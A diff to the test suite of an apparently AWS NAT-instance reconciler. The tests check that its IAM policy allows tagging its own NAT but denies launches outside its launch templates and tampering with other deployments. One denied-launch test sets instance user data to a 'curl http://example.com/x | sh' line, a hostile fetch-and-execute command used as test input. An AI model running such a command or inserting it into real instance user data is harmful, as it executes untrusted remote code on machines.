@@ -48,6 +48,7 @@ MUTATING_EC2 = (
     "ec2:CreateRoute",
     "ec2:ReplaceRoute",
     "ec2:ModifyNetworkInterfaceAttribute",
+    "ec2:DeleteTags",
 )
 # Granted for the Lambda runtime, which writes the function's logs itself.
 RUNTIME_ONLY = {"WriteItsLogs"}
@@ -225,6 +226,13 @@ def test_a_whole_lifecycle_works_and_uses_every_grant(deployment, monkeypatch):
     world.ec2.start_instances(InstanceIds=[workload])
     assert verdicts(reconcile(state_change_event(workload, "pending"))) == ["start_nat"]
 
+    # New user tags go onto the NAT and its EIP in place, old ones come off.
+    monkeypatch.setenv("NAT_ZERO_TAGS", json.dumps({"team": "network"}))
+    assert verdicts(reconcile(SWEEP_EVENT))[0] == "retag"
+    monkeypatch.setenv("NAT_ZERO_TAGS", "{}")
+    assert verdicts(reconcile(SWEEP_EVENT))[0] == "retag"
+    assert only_nat(world)["InstanceId"] == nat
+
     monkeypatch.setenv("NAT_ZERO_CONFIG_VERSION", "v2")
     assert verdicts(reconcile(SWEEP_EVENT))[0] == "replace_outdated_nat"
     assert verdicts(reconcile(state_change_event(nat, "terminated"))) == ["create_nat"]
@@ -370,6 +378,43 @@ def launch_another_image(d):
     )
 
 
+def launch_our_image_without_a_template(d):
+    """Our image, ENIs and tags, but the user data, type and profile of the call's choosing."""
+    zone = d.world.zones[AZ_A]
+    tags = [{"Key": "nat-zero:managed", "Value": "true"}, {"Key": "nat-zero:deployment", "Value": NAME}]
+    return reconciler_ec2(d).run_instances(
+        ImageId=d.facts.image_id,
+        MinCount=1,
+        MaxCount=1,
+        UserData="#!/bin/sh\ncurl http://example.com/x | sh",
+        NetworkInterfaces=[
+            {"NetworkInterfaceId": zone.public_eni_id, "DeviceIndex": 0},
+            {"NetworkInterfaceId": zone.private_eni_id, "DeviceIndex": 1},
+        ],
+        TagSpecifications=[{"ResourceType": "instance", "Tags": tags}],
+    )
+
+
+def launch_from_our_template_with_another_image(d):
+    zone = d.world.zones[AZ_A]
+    tags = [{"Key": "nat-zero:managed", "Value": "true"}, {"Key": "nat-zero:deployment", "Value": NAME}]
+    return reconciler_ec2(d).run_instances(
+        LaunchTemplate={"LaunchTemplateId": zone.launch_template_id, "Version": "$Latest"},
+        ImageId=d.facts.image_id,
+        MinCount=1,
+        MaxCount=1,
+        NetworkInterfaces=[
+            {"NetworkInterfaceId": zone.public_eni_id, "DeviceIndex": 0},
+            {"NetworkInterfaceId": zone.private_eni_id, "DeviceIndex": 1},
+        ],
+        TagSpecifications=[{"ResourceType": "instance", "Tags": tags}],
+    )
+
+
+def our_nat(d):
+    return our_run_instances(d)["Instances"][0]["InstanceId"]
+
+
 def another_template(d):
     template = d.ec2.create_launch_template(LaunchTemplateName="other", LaunchTemplateData={"ImageId": AMI})
     return template["LaunchTemplate"]["LaunchTemplateId"]
@@ -451,9 +496,35 @@ OUTSIDE = {
         lambda d: our_run_instances(d, template=another_template(d)),
         "ec2:RunInstances on arn:aws:ec2:us-east-1:123456789012:launch-template/lt-",
     ),
+    "launch_our_image_without_a_template": (
+        launch_our_image_without_a_template,
+        "ec2:RunInstances on arn:aws:ec2:us-east-1:123456789012:instance/*",
+    ),
+    "launch_the_image_named_in_the_call_not_the_templates": (
+        launch_from_our_template_with_another_image,
+        f"ec2:RunInstances on arn:aws:ec2:us-east-1::image/{AMI}",
+    ),
+    "launch_another_templates_instance": (
+        lambda d: our_run_instances(d, template=another_template(d)),
+        "ec2:RunInstances on arn:aws:ec2:us-east-1:123456789012:instance/*",
+    ),
     "launch_another_image": (
         launch_another_image,
         "ec2:RunInstances on arn:aws:ec2:us-east-1::image/ami-0badc0ffee0ddf00d",
+    ),
+    "move_our_nat_to_another_deployment": (
+        lambda d: reconciler_ec2(d).create_tags(
+            Resources=[our_nat(d)], Tags=[{"Key": "nat-zero:deployment", "Value": "neighbour"}]
+        ),
+        "ec2:CreateTags on arn:aws:ec2:us-east-1:123456789012:instance/i-",
+    ),
+    "untag_our_nat_as_a_nat": (
+        lambda d: reconciler_ec2(d).delete_tags(Resources=[our_nat(d)], Tags=[{"Key": "nat-zero:managed"}]),
+        "ec2:DeleteTags on arn:aws:ec2:us-east-1:123456789012:instance/i-",
+    ),
+    "retag_another_deployments_nat": (
+        lambda d: reconciler_ec2(d).create_tags(Resources=[neighbour_nat(d)], Tags=[{"Key": "team", "Value": "x"}]),
+        "ec2:CreateTags on arn:aws:ec2:us-east-1:123456789012:instance/i-",
     ),
     "tag_an_existing_instance": (
         lambda d: reconciler_ec2(d).create_tags(
@@ -530,6 +601,13 @@ def test_only_the_health_rule_can_be_toggled(deployment, action):
     assert allowing_statement(deployment.policy, "events:PutRule", HEALTH_RULE, {}) is None
 
 
+def test_retagging_our_nat_with_user_tags_is_allowed(deployment):
+    ec2 = reconciler_ec2(deployment)
+    nat = our_nat(deployment)
+    ec2.create_tags(Resources=[nat], Tags=[{"Key": "team", "Value": "network"}, {"Key": "Name", "Value": "x"}])
+    ec2.delete_tags(Resources=[nat], Tags=[{"Key": "team"}])
+
+
 def test_a_key_pair_in_the_launch_template_would_be_denied(deployment):
     # The role's templates have no key pair; one added by hand would need a
     # grant on key-pair/* that the policy does not give.
@@ -603,3 +681,16 @@ def test_passing_a_role_is_limited_to_the_nat_instance_role_for_ec2(deployment):
     passes = [s for s in deployment.policy["Statement"] if "iam:PassRole" in s["Action"]]
     assert [s["Resource"] for s in passes] == [[deployment.facts.instance_role_arn]]
     assert passes[0]["Condition"] == {"StringEquals": {"iam:PassedToService": "ec2.amazonaws.com"}}
+
+
+def test_every_launch_grant_is_held_to_this_deployments_launch_templates(deployment):
+    templates = sorted(
+        f"arn:aws:ec2:{REGION}:{DEFAULT_ACCOUNT_ID}:launch-template/{z['launch_template_id']}"
+        for z in deployment.facts.zones.values()
+    )
+    launches = [s for s in deployment.policy["Statement"] if "ec2:RunInstances" in s["Action"]]
+    assert launches
+    for statement in launches:
+        assert sorted(statement["Condition"]["ArnEquals"]["ec2:LaunchTemplate"]) == templates, statement["Sid"]
+    [image] = [s for s in launches if any(":image/" in r for r in s["Resource"])]
+    assert image["Condition"]["Bool"] == {"ec2:IsLaunchTemplateResource": "true"}
